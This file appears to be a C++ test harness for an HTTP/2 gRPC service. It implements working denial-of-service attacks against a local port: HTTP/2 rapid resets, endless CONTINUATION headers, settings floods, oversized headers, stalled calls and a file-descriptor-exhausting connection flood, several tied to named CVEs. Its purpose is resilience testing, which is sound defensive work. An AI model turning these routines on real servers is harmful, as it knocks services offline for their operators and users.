#include "tests/wire/attacks.h"

#include <sys/resource.h>

#include <algorithm>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "tests/wire/connection.h"
#include "tests/wire/frames.h"

namespace reismee::wire {
namespace {

constexpr char kPath[] = "/reismee.v1.CaseService/GetCase";

// What to send next, the how-manieth time on this connection.
using Next = std::function<std::string(uint32_t turn)>;

void SendWithoutEnd(int port, const Stop& stop, const Next& next) {
  while (!stop.reached()) {
    const std::unique_ptr<Connection> connection = Connection::Open(port);
    if (connection == nullptr || !connection->ShakeHands(stop.at)) continue;
    if (!connection->Send(Preface(), stop.at)) continue;
    for (uint32_t turn = 0; !stop.reached() && connection->Send(next(turn), stop.at); ++turn) {
    }
  }
}

std::string CallOn(uint32_t stream, const std::string& fields, uint8_t flags) {
  return Frame(FrameType::kHeaders, flags, stream, fields);
}

// CVE-2023-44487: calls that are taken back at once.
void RapidResets(int port, const Stop& stop) {
  const std::string fields = CallFields(kPath);
  const std::string cancelled("\0\0\0\x8", 4);
  constexpr uint32_t kAtOnce = 100;
  SendWithoutEnd(port, stop, [&](uint32_t turn) {
    std::string calls;
    for (uint32_t i = 0; i < kAtOnce; ++i) {
      const uint32_t stream = 1 + 2 * (turn * kAtOnce + i);
      absl::StrAppend(&calls, CallOn(stream, fields, kEndHeaders),
                      Frame(FrameType::kReset, 0, stream, cancelled));
    }
    return calls;
  });
}

// CVE-2023-33953: the headers of one call, without end.
void EndlessHeaders(int port, const Stop& stop) {
  const std::string first = CallOn(1, CallFields(kPath), 0);
  std::string fields;
  for (int i = 0; fields.size() < 16000; ++i) {
    absl::StrAppend(&fields, Field(absl::StrCat("x-", i), "0123456789"));
  }
  const std::string more = Frame(FrameType::kContinuation, 0, 1, fields);
  SendWithoutEnd(port, stop, [&](uint32_t turn) { return turn == 0 ? first : more; });
}

void LargeSettingsFlood(int port, const Stop& stop) {
  const std::string settings = LargeSettings();
  SendWithoutEnd(port, stop, [&](uint32_t) { return settings; });
}

// More than a server takes, after fields that it does not understand.
void OversizedHeaders(int port, const Stop& stop) {
  const std::string fields = absl::StrCat(
      Field(":method", "POST"), Field(":scheme", "https"), Field(":path", kPath),
      Field(":authority", "localhost"), Field("te", "x"), Field("grpclb_client_stats", "x"),
      Field("content-type", "application/grpc"), Field("large", std::string(9000, 'x')));
  SendWithoutEnd(port, stop, [&](uint32_t turn) {
    return CallOn(1 + 2 * turn, fields, kEndHeaders | kEndStream);
  });
}

// Keeps so many connections, and opens one again that was ended. Each is `greeted` when it is new.
void Hold(int port, const Stop& stop, size_t count,
          const std::function<void(Connection&, size_t number, absl::Time until)>& greeted) {
  std::vector<std::unique_ptr<Connection>> held(count);
  while (!stop.reached()) {
    for (size_t i = 0; i < held.size() && !stop.reached(); ++i) {
      if (held[i] != nullptr && !held[i]->Ended()) continue;
      held[i] = Connection::Open(port);
      if (held[i] == nullptr) continue;
      greeted(*held[i], i, std::min(stop.at, absl::Now() + absl::Milliseconds(100)));
    }
  }
}

// Calls whose message never comes.
void SilentCalls(int port, const Stop& stop) {
  std::string calls = Preface();
  for (uint32_t i = 0; i < 100; ++i) {
    absl::StrAppend(&calls, CallOn(1 + 2 * i, CallFields(kPath), kEndHeaders));
  }
  Hold(port, stop, 10, [&](Connection& connection, size_t, absl::Time until) {
    if (connection.ShakeHands(until)) connection.Send(calls, until);
  });
}

// CVE-2023-4785: more connections than there are descriptors for. Every second one speaks HTTP/2
// and is then silent, as the others are from the start.
void ConnectionFlood(int port, const Stop& stop) {
  rlimit own = {};
  getrlimit(RLIMIT_NOFILE, &own);
  own.rlim_cur = own.rlim_max;
  setrlimit(RLIMIT_NOFILE, &own);
  Hold(port, stop, 2300, [](Connection& connection, size_t number, absl::Time until) {
    if (number % 2 == 1 && connection.ShakeHands(until)) connection.Send(Preface(), until);
  });
}

constexpr Attack kAttacks[] = {
    {"rapid resets", RapidResets},          {"endless headers", EndlessHeaders},
    {"large settings", LargeSettingsFlood}, {"oversized headers", OversizedHeaders},
    {"silent calls", SilentCalls},          {"connection flood", ConnectionFlood, 256}};

}  // namespace

absl::Span<const Attack> Attacks() { return kAttacks; }

}  // namespace reismee::wire
